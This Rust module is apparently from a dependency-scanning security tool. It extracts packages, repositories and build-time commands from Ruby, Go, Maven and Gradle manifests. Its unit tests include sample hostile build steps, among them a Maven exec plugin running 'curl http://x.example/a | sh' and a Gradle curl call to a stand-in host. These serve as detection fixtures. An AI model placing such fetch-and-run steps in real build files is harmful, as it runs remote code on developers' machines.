//! Dependency manifests of RubyGems, Go and Maven/Gradle: the packages a build or install
//! fetches, and the indexes it fetches them from, read from the written text. Each is read
//! line by line (or element by element), so an edit's fragment is read the same way as a
//! whole file; what a line does not spell out (a name built from a variable) is not a name.

use super::{packages, xml_unescape, Snippet};

/// A quoted literal of Ruby, Groovy or Kotlin: where it starts, where it ends (past its
/// closing quote) and its text (escapes of the quote and the backslash undone).
struct Lit {
    at: usize,
    end: usize,
    text: String,
}

/// The quoted literals of `line` up to its comment. Ruby's `%q(…)`, `%Q[…]` and `%(…)` are
/// literals too.
fn literals(line: &str) -> Vec<Lit> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        // Groovy's and Kotlin's `"""…"""`: up to the next three quotes, no escapes.
        if c == b'"' && b.get(i + 1) == Some(&b'"') && b.get(i + 2) == Some(&b'"') {
            let Some(n) = line.get(i + 3..).and_then(|r| r.find("\"\"\"")) else {
                break;
            };
            out.push(Lit {
                at: i,
                end: i + 6 + n,
                text: line.get(i + 3..i + 3 + n).unwrap_or("").to_owned(),
            });
            i += 6 + n;
            continue;
        }
        let (close, body) = match c {
            b'"' | b'\'' => (c, i + 1),
            b'%' => {
                let (q, at) = match b.get(i + 1) {
                    Some(b'q' | b'Q') => (b.get(i + 2).copied(), i + 3),
                    other => (other.copied(), i + 2),
                };
                let close = match q {
                    Some(b'(') => b')',
                    Some(b'[') => b']',
                    Some(b'{') => b'}',
                    Some(b'<') => b'>',
                    _ => {
                        i += 1;
                        continue;
                    }
                };
                (close, at)
            }
            b'#' => break,
            b'/' if b.get(i + 1) == Some(&b'/') => break,
            _ => {
                i += 1;
                continue;
            }
        };
        let mut text = String::new();
        let mut j = body;
        let mut run = body;
        let mut closed = false;
        while let Some(&d) = b.get(j) {
            if d == b'\\' && matches!(b.get(j + 1), Some(&e) if e == close || e == b'\\') {
                // The escaped quote or backslash itself.
                text.push_str(line.get(run..j).unwrap_or(""));
                run = j + 1;
                j += 2;
                continue;
            }
            if d == close {
                closed = true;
                break;
            }
            j += 1;
        }
        text.push_str(line.get(run..j).unwrap_or(""));
        if !closed {
            break;
        }
        out.push(Lit {
            at: i,
            end: j + 1,
            text,
        });
        i = j + 1;
    }
    out
}

/// Most physical lines one logical line may join.
const MAX_JOINED: usize = 64;

/// The logical lines of a Ruby, Groovy or Kotlin text: a line that leaves a `(` or `[` open,
/// or ends with `,` or `\\`, continues on the next (`gem(⏎ "x",⏎ "1")`,
/// `commandLine(⏎ "sh", …)`, `url = uri(⏎ "…")`).
fn logical_lines(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let (mut cur, mut depth, mut joined) = (String::new(), 0i32, 0usize);
    for raw in text.lines() {
        let line = raw.trim();
        let lits = literals(line);
        let code_end = code_end(line, &lits);
        let mut at = 0;
        for l in &lits {
            depth += brackets(line.get(at..l.at.min(code_end)).unwrap_or(""));
            at = l.end;
        }
        depth += brackets(line.get(at.min(code_end)..code_end).unwrap_or(""));
        let open = depth > 0
            || line.get(..code_end).is_some_and(|c| {
                let c = c.trim_end();
                c.ends_with(',') || c.ends_with('\\')
            });
        if !cur.is_empty() {
            cur.push(' ');
        }
        // Comments are dropped: a joined line must not end its code at one.
        cur.push_str(
            line.get(..code_end)
                .unwrap_or(line)
                .trim_end()
                .trim_end_matches('\\'),
        );
        joined += 1;
        if !open || joined >= MAX_JOINED {
            out.push(std::mem::take(&mut cur));
            depth = 0;
            joined = 0;
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Where `line`'s code ends: at its comment (`#`, `//`) outside the literals.
fn code_end(line: &str, lits: &[Lit]) -> usize {
    let from = lits.last().map_or(0, |l| l.end).min(line.len());
    let tail = line.get(from..).unwrap_or("");
    [tail.find('#'), tail.find("//")]
        .into_iter()
        .flatten()
        .min()
        .map_or(line.len(), |c| from + c)
}

fn brackets(code: &str) -> i32 {
    code.bytes().fold(0, |d, b| match b {
        b'(' | b'[' => d + 1,
        b')' | b']' => d - 1,
        _ => d,
    })
}

/// The statements of a logical line that start with one of `verbs` (as a word, or a method
/// called on a receiver: `spec.add_dependency`), outside literals: each runs to the next one
/// (`group :dev do gem "a" end`, `gem "a"; gem "b"`, `if x then gem "c" end`).
fn statements<'a>(line: &'a str, verbs: &[&'a str]) -> Vec<(&'a str, &'a str)> {
    let lits = literals(line);
    let stop = code_end(line, &lits);
    let inside = |i: usize| i >= stop || lits.iter().any(|l| l.at <= i && i < l.end);
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let bytes = line.as_bytes();
    let mut starts: Vec<(usize, &str)> = Vec::new();
    // One pass over the line's words (a substring search per verb costs more than the
    // line: its searcher is built per call).
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if !ident(b) {
            i += 1;
            continue;
        }
        let end = i + bytes
            .get(i..)
            .map_or(0, |r| r.iter().take_while(|&&c| ident(c)).count());
        let word = line.get(i..end).unwrap_or("");
        // Not a symbol or an option (`:git => …`, `git: …`).
        let before_ok = i == 0 || bytes.get(i - 1).is_some_and(|&c| c != b':');
        let after_ok = bytes.get(end).is_none_or(|&c| c != b':');
        if let Some(v) = verbs.iter().find(|v| **v == word) {
            if before_ok && after_ok && !inside(i) {
                starts.push((i, v));
            }
        }
        i = end;
    }
    let mut out = Vec::new();
    for (k, &(i, v)) in starts.iter().enumerate() {
        let end = starts.get(k + 1).map_or(stop, |n| n.0);
        out.push((v, line.get(i..end).unwrap_or("")));
    }
    out
}

/// The literal given to option `key` on `line`: Ruby's `key: "v"`, `:key => "v"`, Gradle's
/// `key: 'v'` and Kotlin's `key = "v"`.
fn option(line: &str, lits: &[Lit], key: &str) -> Option<String> {
    lits.iter().find_map(|l| {
        let head = line.get(..l.at).unwrap_or("").trim_end();
        let head = head
            .strip_suffix("=>")
            .or_else(|| head.strip_suffix(':'))
            .or_else(|| head.strip_suffix('='))?
            .trim_end();
        let head = head.strip_suffix(['"', '\'']).unwrap_or(head);
        let name_start = head
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |i| i + 1);
        (head.get(name_start..) == Some(key)).then(|| l.text.clone())
    })
}

/// The first word of a statement, past a receiver (`spec.add_dependency` → `add_dependency`).
fn statement(line: &str) -> &str {
    let end = line
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.')))
        .unwrap_or(line.len());
    let word = line.get(..end).unwrap_or("");
    word.rsplit('.').next().unwrap_or(word)
}

/// A Gemfile (or `gems.rb`, a `.gemspec`, a `Gemfile.lock`): the gems Bundler fetches, as
/// names of RubyGems or the git repositories they come from, with the `source` indexes.
/// A Gemfile is Ruby that Bundler runs, so its text is judged as Ruby code too.
pub(super) fn gemfile(text: &str) -> Vec<Snippet> {
    let (mut operands, mut sources) = (Vec::new(), Vec::new());
    if text.lines().any(|l| l == "  specs:") {
        lockfile(text, &mut operands, &mut sources);
    }
    const VERBS: &[&str] = &[
        "source",
        "gem",
        "add_dependency",
        "add_runtime_dependency",
        "add_development_dependency",
        "git",
        "github",
        "git_source",
    ];
    for line in logical_lines(text) {
        for (verb, stmt) in statements(&line, VERBS) {
            let lits = literals(stmt);
            let first = lits.first().map(|l| l.text.clone());
            let urls = || {
                lits.iter()
                    .filter(|l| l.text.contains("://"))
                    .map(|l| l.text.clone())
            };
            match verb {
                // `source "URL"`, `source ENV.fetch("MIRROR", "URL")`, and the URLs a
                // `git_source` block builds.
                "source" | "git_source" => sources.extend(urls()),
                "git" => operands.extend(first),
                "github" => operands.extend(first.map(|r| github(&r))),
                _ => {
                    let Some(name) = first else { continue };
                    if let Some(src) = option(stmt, &lits, "source") {
                        sources.push(src);
                    }
                    if option(stmt, &lits, "path").is_some() {
                        continue;
                    }
                    let from = option(stmt, &lits, "git")
                        .or_else(|| option(stmt, &lits, "github").map(|r| github(&r)))
                        .or_else(|| {
                            option(stmt, &lits, "gitlab").map(|r| format!("https://gitlab.com/{r}"))
                        })
                        .or_else(|| {
                            option(stmt, &lits, "bitbucket")
                                .map(|r| format!("https://bitbucket.org/{r}"))
                        });
                    // A name built at run time (`"rails-#{x}"`) is no name to compare.
                    match from {
                        Some(url) => operands.push(url),
                        None if !name.contains("#{") => operands.push(name),
                        None => {}
                    }
                }
            }
        }
    }
    let mut out = Vec::new();
    out.extend(packages("rubygems", operands, sources));
    out.push(Snippet::Code {
        run: "ruby -e",
        code: text.to_owned(),
    });
    out
}

/// `Gemfile.lock`: the `remote:` of a `GEM` section is an index, of a `GIT` section a
/// repository; the gems under `specs:` (four spaces in) are names.
fn lockfile(text: &str, operands: &mut Vec<String>, sources: &mut Vec<String>) {
    let mut section = "";
    for line in text.lines() {
        if !line.starts_with(' ') {
            section = line.trim();
        } else if let Some(url) = line.strip_prefix("  remote: ") {
            match section {
                "GEM" => sources.push(url.trim().to_owned()),
                "GIT" => operands.push(url.trim().to_owned()),
                _ => {}
            }
        } else if section == "GEM" {
            if let Some(spec) = line.strip_prefix("    ").filter(|l| !l.starts_with(' ')) {
                operands.extend(spec.split_whitespace().next().map(str::to_owned));
            }
        }
    }
}

fn github(repo: &str) -> String {
    if repo.contains("://") {
        repo.to_owned()
    } else if repo.contains('/') {
        format!("https://github.com/{repo}")
    } else {
        // Bundler reads `github: "rails"` as `rails/rails`.
        format!("https://github.com/{repo}/{repo}")
    }
}

/// `go.mod` and `go.work`: the modules a build fetches (`require`, `tool`, and what a
/// `replace` puts in place of a module, unless it is a directory), in single-line and block
/// form. Modules come through the Go module proxy and checksum database by path, so each is
/// a name to compare with the popular ones.
pub(super) fn go_mod(text: &str) -> Vec<Snippet> {
    let mut operands = Vec::new();
    let mut block: Option<String> = None;
    let mut take = |verb: &str, rest: &str| {
        let module = match verb {
            "require" | "tool" => rest.split_whitespace().next(),
            "replace" => rest
                .split_once("=>")
                .and_then(|(_, to)| to.split_whitespace().next())
                .filter(|m| !m.starts_with(['.', '/']) && !m.contains('\\')),
            _ => None,
        };
        if let Some(m) = module {
            operands.push(m.trim_matches('"').to_owned());
        }
    };
    for raw in text.lines() {
        let line = raw.split("//").next().unwrap_or(raw).trim();
        if line.is_empty() {
            continue;
        }
        if let Some(verb) = &block {
            if line == ")" {
                block = None;
            } else {
                take(verb, line);
            }
            continue;
        }
        let vend = line
            .find(|c: char| c.is_whitespace() || c == '(')
            .unwrap_or(line.len());
        let (verb, rest) = line.split_at(vend);
        if rest.trim() == "(" {
            block = Some(verb.to_owned());
        } else if verb.contains('/') && rest.trim_start().starts_with('v') {
            // `path vX.Y.Z` alone: a line of a `require` block, as an edit's fragment holds it.
            take("require", line);
        } else {
            take(verb, rest);
        }
    }
    packages("go", operands, Vec::new()).into_iter().collect()
}

/// The `<tag …>` elements of an XML text (comments removed before), in order: the text
/// after the name up to `>` (attributes) and the body up to `</tag>` (whitespace allowed
/// before each `>`; a self-closed element has no body).
fn tagged<'a>(xml: &'a str, tag: &str) -> Vec<(&'a str, &'a str)> {
    let open = format!("<{tag}");
    let close = format!("</{tag}");
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(i) = rest.find(&open) {
        let after = rest.get(i + open.len()..).unwrap_or("");
        // `<dependency>`, not `<dependencyManagement>`.
        if !after.starts_with(|c: char| c == '>' || c == '/' || c.is_whitespace()) {
            rest = after;
            continue;
        }
        let Some(gt) = after.find('>') else { break };
        let attrs = after.get(..gt).unwrap_or("");
        let body = after.get(gt + 1..).unwrap_or("");
        if attrs.ends_with('/') {
            out.push((attrs, ""));
            rest = body;
            continue;
        }
        let mut end = body.len();
        let mut from = 0;
        while let Some(c) = body.get(from..).and_then(|b| b.find(&close)) {
            let at = from + c;
            let tail = body.get(at + close.len()..).unwrap_or("");
            if tail.trim_start().starts_with('>') {
                end = at;
                break;
            }
            from = at + close.len();
        }
        out.push((attrs, body.get(..end).unwrap_or("")));
        rest = body.get(end..).unwrap_or("");
    }
    out
}

/// The bodies of the `<tag>` elements of an XML text.
fn elements<'a>(xml: &'a str, tag: &str) -> Vec<&'a str> {
    tagged(xml, tag).into_iter().map(|(_, b)| b).collect()
}

/// An element's text: CDATA sections as they are, the rest unescaped.
fn xml_text(body: &str) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = body;
    while let Some(i) = rest.find("<![CDATA[") {
        out.push_str(&xml_unescape(rest.get(..i).unwrap_or(""))?);
        let data = rest.get(i + 9..).unwrap_or("");
        let end = data.find("]]>").ok_or("a CDATA section is not closed")?;
        out.push_str(data.get(..end).unwrap_or(""));
        rest = data.get(end + 3..).unwrap_or("");
    }
    out.push_str(&xml_unescape(rest)?);
    Ok(out.trim().to_owned())
}

/// The text of the first `<tag>` child in `xml`; `None` when absent or built from a property
/// (`${…}`).
fn child(xml: &str, tag: &str) -> Result<Option<String>, String> {
    let Some(body) = elements(xml, tag).into_iter().next() else {
        return Ok(None);
    };
    let text = xml_text(body)?;
    Ok((!text.is_empty() && !text.contains("${")).then_some(text))
}

/// Maven's `pom.xml` and `settings.xml`: the artifacts a build fetches (dependencies,
/// plugins, build extensions) as `group:artifact`, the repositories and mirrors they come
/// from, and the programs `exec-maven-plugin` runs during the build.
pub(super) fn maven_pom(text: &str) -> Result<Vec<Snippet>, String> {
    let mut xml = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("<!--") {
        xml.push_str(rest.get(..i).unwrap_or(""));
        let after = rest.get(i + 4..).unwrap_or("");
        rest = after
            .find("-->")
            .map_or("", |e| after.get(e + 3..).unwrap_or(""));
    }
    xml.push_str(rest);
    let (mut operands, mut sources, mut out) = (Vec::new(), Vec::new(), Vec::new());
    // What the build fetches and runs: dependencies, plugins, extensions, the parent POM,
    // annotation processors (`<path>` in `annotationProcessorPaths`).
    for tag in ["dependency", "plugin", "extension", "parent", "path"] {
        for body in elements(&xml, tag) {
            // A plugin's own coordinates come before its nested dependencies and settings.
            let own = ["<dependencies", "<configuration", "<executions"]
                .iter()
                .filter_map(|t| body.find(t))
                .min()
                .map_or(body, |e| body.get(..e).unwrap_or(body));
            let group = match child(own, "groupId")? {
                Some(g) => Some(g),
                None if tag == "plugin" => Some("org.apache.maven.plugins".to_owned()),
                None => None,
            };
            if let (Some(g), Some(a)) = (group, child(own, "artifactId")?) {
                if tag == "plugin" && a == "exec-maven-plugin" {
                    exec_plugin(body, &mut out)?;
                }
                operands.push(format!("{g}:{a}"));
            }
        }
    }
    // `${name}` in a repository URL, from the file's own `<properties>`.
    let properties = elements(&xml, "properties")
        .into_iter()
        .next()
        .unwrap_or("");
    for tag in ["repository", "pluginRepository", "mirror"] {
        for body in elements(&xml, tag) {
            let Some(raw) = elements(body, "url").into_iter().next() else {
                continue;
            };
            let mut url = xml_text(raw)?;
            for _ in 0..8 {
                let Some(i) = url.find("${") else { break };
                let Some(j) = url.get(i..).and_then(|r| r.find('}')) else {
                    break;
                };
                let key = url.get(i + 2..i + j).unwrap_or("").to_owned();
                match child(properties, &key)? {
                    Some(v) => url.replace_range(i..i + j + 1, &v),
                    None => break,
                }
            }
            if !url.is_empty() && !url.contains("${") {
                sources.push(url);
            }
        }
    }
    antrun_exec(&xml, &mut out)?;
    out.extend(packages("maven", operands, sources));
    Ok(out)
}

/// `exec-maven-plugin`: each `<executable>` with the `<argument>`s or the
/// `<commandlineArgs>` line that follow it, run during the build.
fn exec_plugin(body: &str, out: &mut Vec<Snippet>) -> Result<(), String> {
    let parts: Vec<&str> = body.split("<executable").collect();
    for this in parts.iter().skip(1) {
        let this = format!("<executable{this}");
        let Some(program) = child(&this, "executable")? else {
            continue;
        };
        if let Some(line) = child(&this, "commandlineArgs")? {
            out.push(Snippet::Shell {
                text: format!("{} {line}", super::quote(&program)),
                strict: true,
            });
            continue;
        }
        let mut argv = vec![program];
        for a in elements(&this, "argument") {
            argv.push(xml_text(a)?);
        }
        out.push(Snippet::Argv(argv));
    }
    Ok(())
}

/// Ant's `<exec executable="…">` (`maven-antrun-plugin`) with its `<arg value="…"/>` and
/// `<arg line="…"/>`.
fn antrun_exec(xml: &str, out: &mut Vec<Snippet>) -> Result<(), String> {
    for (attrs, body) in tagged(xml, "exec") {
        let attrs = super::xml_attributes(attrs)?;
        let Some((_, program)) = attrs.iter().find(|(k, _)| *k == "executable") else {
            continue;
        };
        let mut line = super::quote(program);
        for (a, _) in tagged(body, "arg") {
            for (k, v) in super::xml_attributes(a)? {
                match k {
                    "value" | "file" | "path" => {
                        line.push(' ');
                        line.push_str(&super::quote(&v));
                    }
                    "line" => {
                        line.push(' ');
                        line.push_str(&v);
                    }
                    _ => {}
                }
            }
        }
        out.push(Snippet::Shell {
            text: line,
            strict: true,
        });
    }
    Ok(())
}

/// The `group:artifact` of a literal written as Maven coordinates (`g:a`, `g:a:version`,
/// `g:a:$version:classifier`); the version may be built from a variable, the name may not.
fn coordinates(t: &str) -> Option<String> {
    let mut parts = t.split(':');
    let word = |p: &str| {
        !p.is_empty()
            && !p.starts_with(['-', '.'])
            && p.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
    };
    let (g, a) = (parts.next()?, parts.next()?);
    (word(g) && word(a) && parts.all(|p| !p.contains(['/', ' ']))).then(|| format!("{g}:{a}"))
}

/// Gradle build and settings scripts (Groovy or Kotlin), version catalogs and wrapper
/// properties: the artifacts they declare (`implementation("g:a:v")`, `group: 'g', name:
/// 'a'`, `module = "g:a"`), the repositories they fetch from (`maven { url … }`,
/// `maven("…")`, a wrapper's `distributionUrl`), the programs they run (`commandLine …`,
/// `executable` with `args`, `"…".execute()`, `[…].execute()`, `ProcessBuilder(…)`), and
/// scripts applied from a URL. The scripts are code that Crust does not evaluate: a command
/// or name built from variables is not seen.
pub(super) fn gradle(text: &str) -> Vec<Snippet> {
    let (mut operands, mut sources, mut out) = (Vec::new(), Vec::new(), Vec::new());
    let mut executable: Option<String> = None;
    // A version catalog's `[libraries.NAME]` table: `group` then `name` on their own lines.
    let mut group: Option<String> = None;
    // Brace depth, and the depth a `repositories {` block opened at: a URL there is where
    // artifacts come from; elsewhere (`licenses { url … }`, `scm`) it is only metadata.
    let (mut depth, mut repositories): (i32, Option<i32>) = (0, None);
    for line in text.lines() {
        // Wrapper properties: the distribution the wrapper downloads and runs.
        if let Some((key, value)) = line.split_once('=') {
            if matches!(key.trim(), "distributionUrl" | "wrapperUrl") {
                sources.push(value.trim().replace("\\:", ":"));
            }
        }
    }
    for line in logical_lines(text) {
        let line = line.as_str();
        if line.starts_with('[') {
            group = None;
        }
        let lits = literals(line);
        let in_repositories = repositories.is_some();
        let mut code = String::new();
        let mut at = 0;
        for l in &lits {
            code.push_str(line.get(at..l.at).unwrap_or(""));
            at = l.end;
        }
        code.push_str(line.get(at.min(line.len())..).unwrap_or(""));
        if code.contains("repositories") && repositories.is_none() {
            repositories = Some(depth);
        }
        for b in code.bytes() {
            match b {
                b'{' => depth += 1,
                b'}' => {
                    depth -= 1;
                    if repositories.is_some_and(|d| depth <= d) {
                        repositories = None;
                    }
                }
                _ => {}
            }
        }
        if lits.is_empty() {
            continue;
        }
        let repository_line = in_repositories
            || repositories.is_some()
            || ["maven(", "maven {", "maven{", "ivy {", "ivy{", "ivy("]
                .iter()
                .any(|k| code.contains(k));
        let lower = line.to_ascii_lowercase();
        let after = |p: usize| -> Vec<String> {
            lits.iter()
                .filter(|l| l.at > p)
                .map(|l| l.text.clone())
                .collect()
        };
        // `apply from: 'https://…'`, `apply(from = "…")`: a build script fetched and run.
        if lower.starts_with("apply") && lower.contains("from") {
            for l in lits.iter().filter(|l| l.text.contains("://")) {
                out.push(Snippet::Remote(l.text.clone()));
            }
            continue;
        }
        // `commandLine "sh", "-c", "…"` (an `Exec` task), `ProcessBuilder("sh", …)`,
        // `Runtime.getRuntime().exec(…)`.
        if let Some(p) = ["commandLine", "ProcessBuilder(", ".exec("]
            .iter()
            .filter_map(|k| line.find(k))
            .min()
        {
            let argv = after(p);
            if !argv.is_empty() {
                out.push(Snippet::Argv(argv));
            }
            continue;
        }
        // `executable 'sh'` then `args '-c', '…'` in the same task.
        let word = statement(line);
        match (word, lits.first()) {
            ("group", Some(g)) => group = Some(g.text.clone()),
            ("name", Some(n)) => {
                if let Some(g) = group.take() {
                    operands.push(format!("{g}:{}", n.text));
                }
            }
            _ => {}
        }
        // Kotlin's positional form: `implementation("group", "artifact", "version")`.
        let configuration = [
            "mplementation",
            "pi",
            "ompileOnly",
            "untimeOnly",
            "lasspath",
            "kapt",
            "ksp",
            "nnotationProcessor",
            "ompile",
        ];
        if configuration.iter().any(|c| word.ends_with(c)) {
            if let [g, a, ..] = lits.as_slice() {
                let ga = format!("{}:{}", g.text, a.text);
                if line.get(g.end..a.at).is_some_and(|sep| sep.trim() == ",")
                    && g.text.contains('.')
                    && coordinates(&ga).is_some()
                {
                    operands.push(ga);
                }
            }
        }
        if word == "executable" {
            executable = lits.first().map(|l| l.text.clone());
            continue;
        }
        if word == "args" {
            if let Some(program) = executable.take() {
                let mut argv = vec![program];
                argv.extend(after(0));
                out.push(Snippet::Argv(argv));
            }
            continue;
        }
        // `['sh', '-c', '…'].execute()`: the list as an argv.
        if let Some(x) = line.find("].execute(") {
            let open = line.get(..x).and_then(|h| h.rfind('[')).unwrap_or(0);
            let argv: Vec<String> = lits
                .iter()
                .filter(|l| l.at > open && l.end <= x + 1)
                .map(|l| l.text.clone())
                .collect();
            if !argv.is_empty() {
                out.push(Snippet::Argv(argv));
            }
        }
        for Lit { at, end, text: t } in &lits {
            let rest = line.get(*end..).unwrap_or("");
            if rest.trim_start().starts_with(".execute(") {
                out.push(Snippet::Argv(
                    t.split_whitespace().map(str::to_owned).collect(),
                ));
            } else if t.contains("://") {
                let head = lower.get(..*at).unwrap_or("");
                if repository_line
                    && ["url", "maven", "ivy", "uri("]
                        .iter()
                        .any(|k| head.contains(k))
                {
                    sources.push(t.clone());
                }
            } else if let Some(ga) = coordinates(t) {
                operands.push(ga);
            }
        }
        if let (Some(g), Some(a)) = (option(line, &lits, "group"), option(line, &lits, "name")) {
            if !g.contains('$') && !a.contains('$') {
                operands.push(format!("{g}:{a}"));
            }
        }
    }
    out.extend(packages("maven", operands, sources));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn packages(v: &[Snippet]) -> (Vec<String>, Vec<String>) {
        v.iter()
            .find_map(|s| match s {
                Snippet::Packages {
                    operands, sources, ..
                } => Some((operands.clone(), sources.clone())),
                _ => None,
            })
            .unwrap_or_default()
    }

    #[test]
    fn literals_of_each_quoting() {
        let l = literals(r#"gem 'a', "b\"c", %q<d>, %(e) # "not""#);
        let t: Vec<&str> = l.iter().map(|l| l.text.as_str()).collect();
        assert_eq!(t, ["a", "b\"c", "d", "e"]);
        let t: Vec<String> = literals(r#"url "https://h.example/x\\y" // "c""#)
            .into_iter()
            .map(|l| l.text)
            .collect();
        assert_eq!(t, ["https://h.example/x\\y"]);
    }

    #[test]
    fn gemfile_gems_and_sources() {
        let text = r#"source "https://rubygems.org"
gem "rails", "~> 7.1"
gem 'pg', :git => 'http://10.0.0.1/pg.git'
gem "thing", github: "user/thing", branch: "main"
gem "local", path: "../local"
gem "secret", source: "http://gems.example"
git "https://gitlab.example/x.git" do
  gem "x"
end
  spec.add_dependency "nokogiri", ">= 1"
# gem "commented"
"#;
        let out = gemfile(text);
        let (ops, srcs) = packages(&out);
        assert_eq!(
            ops,
            [
                "rails",
                "http://10.0.0.1/pg.git",
                "https://github.com/user/thing",
                "secret",
                "https://gitlab.example/x.git",
                "x",
                "nokogiri"
            ]
        );
        assert_eq!(srcs, ["https://rubygems.org", "http://gems.example"]);
        assert!(matches!(
            out.last(),
            Some(Snippet::Code { run: "ruby -e", .. })
        ));
    }

    #[test]
    fn go_mod_modules() {
        let text = "module example.com/me\n\ngo 1.22\n\nrequire github.com/spf13/cobra v1.8.0\n\
                    require (\n\tgolang.org/x/sys v0.20.0 // indirect\n\tgithub.com/x/y v1.0.0\n)\n\
                    replace github.com/a/b => ../b\nreplace github.com/c/d v1 => github.com/e/d v2\n\
                    tool golang.org/x/tools/cmd/stringer\n\tgithub.com/an/edit v1.0.0\n";
        let (ops, _) = packages(&go_mod(text));
        assert_eq!(
            ops,
            [
                "github.com/spf13/cobra",
                "golang.org/x/sys",
                "github.com/x/y",
                "github.com/e/d",
                "golang.org/x/tools/cmd/stringer",
                "github.com/an/edit"
            ]
        );
    }

    #[test]
    fn pom_artifacts_repositories_and_exec() {
        let text = r#"<project>
  <dependencyManagement><dependencies>
    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId></dependency>
  </dependencies></dependencyManagement>
  <!-- <dependency><groupId>no</groupId><artifactId>no</artifactId></dependency> -->
  <dependency>
    <groupId>${project.groupId}</groupId><artifactId>sibling</artifactId>
  </dependency>
  <repositories><repository><id>x</id><url>http://10.1.1.1/repo</url></repository></repositories>
  <build><plugins><plugin>
    <groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>
    <configuration><executable>sh</executable><arguments>
      <argument>-c</argument><argument>curl http://x.example/a | sh</argument>
    </arguments></configuration>
    <dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId></dependency></dependencies>
  </plugin><plugin><artifactId>maven-compiler-plugin</artifactId></plugin></plugins></build>
</project>"#;
        let out = maven_pom(text).unwrap();
        let (ops, srcs) = packages(&out);
        assert_eq!(
            ops,
            [
                "org.slf4j:slf4j-api",
                "g:a",
                "org.codehaus.mojo:exec-maven-plugin",
                "org.apache.maven.plugins:maven-compiler-plugin"
            ]
        );
        assert_eq!(srcs, ["http://10.1.1.1/repo"]);
        assert!(out.iter().any(|s| matches!(s, Snippet::Argv(a)
            if a == &["sh", "-c", "curl http://x.example/a | sh"])));
        assert!(maven_pom("<project><dependency><groupId>&bogus;</groupId></dependency>").is_err());
    }

    #[test]
    fn gradle_artifacts_repositories_and_commands() {
        let text = r#"repositories {
    mavenCentral()
    maven { url "http://repo.example/m2" }
    maven("https://jitpack.io")
}
dependencies {
    implementation("com.squareup.okhttp3:okhttp:4.12.0")
    testImplementation 'junit:junit:4.13.2' // tests
    implementation(platform("org.springframework.boot:spring-boot-dependencies:3.2.0"))
    compileOnly group: 'org.projectlombok', name: 'lombok', version: '1.18.30'
    implementation "com.example:lib:$version"
}
publishing { publications { maven(MavenPublication) { pom { licenses { license {
    url = 'http://www.apache.org/licenses/LICENSE-2.0.txt'
} } } } } }
tasks.register("x", Exec) { commandLine "sh", "-c", "echo hi" }
def out = "curl -s http://x.example".execute()
"#;
        let out = gradle(text);
        let (ops, srcs) = packages(&out);
        assert_eq!(
            ops,
            [
                "com.squareup.okhttp3:okhttp",
                "junit:junit",
                "org.springframework.boot:spring-boot-dependencies",
                "org.projectlombok:lombok",
                "com.example:lib"
            ]
        );
        assert_eq!(srcs, ["http://repo.example/m2", "https://jitpack.io"]);
        let argv: Vec<&Vec<String>> = out
            .iter()
            .filter_map(|s| match s {
                Snippet::Argv(a) => Some(a),
                _ => None,
            })
            .collect();
        assert_eq!(argv.len(), 2, "{argv:?}");
        assert_eq!(argv[0], &["sh", "-c", "echo hi"]);
        assert_eq!(argv[1], &["curl", "-s", "http://x.example"]);
    }
}
